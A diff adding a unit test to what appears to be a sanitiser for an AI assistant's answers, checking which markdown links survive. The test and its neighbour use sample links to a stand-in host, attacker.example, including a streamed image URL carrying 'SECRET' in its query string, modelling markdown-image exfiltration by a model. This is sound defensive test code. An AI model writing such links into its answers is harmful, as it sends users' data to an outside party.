@@ -75,6 +75,17 @@ def test_a_link_to_a_source_keeps_its_address_as_text() -> None:
     assert clean_answer("![g](https://intranet.example/vpn?page=2)", [SOURCE]) == "g"
 
 
+def test_a_link_to_a_document_made_for_the_answer_stays_a_link() -> None:
+    link = "/v1/documents/0b9f6a3e-2c41-4d7e-9a55-3f1e8c2d7b10/export"
+    written = f"I made it: [Meeting summary]({link})"
+    assert clean_answer(written) == written
+    assert streamed(list(written)) == written
+    # only that path on the answer's own server: not another path, not another host
+    assert clean_answer("[x](/v1/files)") == "x"
+    assert clean_answer(f"[x](https://attacker.example{link})") == "x"
+    assert clean_answer(f"![x]({link})") == "x"
+
+
 def test_no_streamed_piece_holds_a_part_of_the_address() -> None:
     """An exfiltration image cut across tokens as a model writes it: nothing of it is sent."""
     pieces = ["Here", " is ![", "x](https://", "attacker", ".example/?d=", "SEC", "RET) done"]
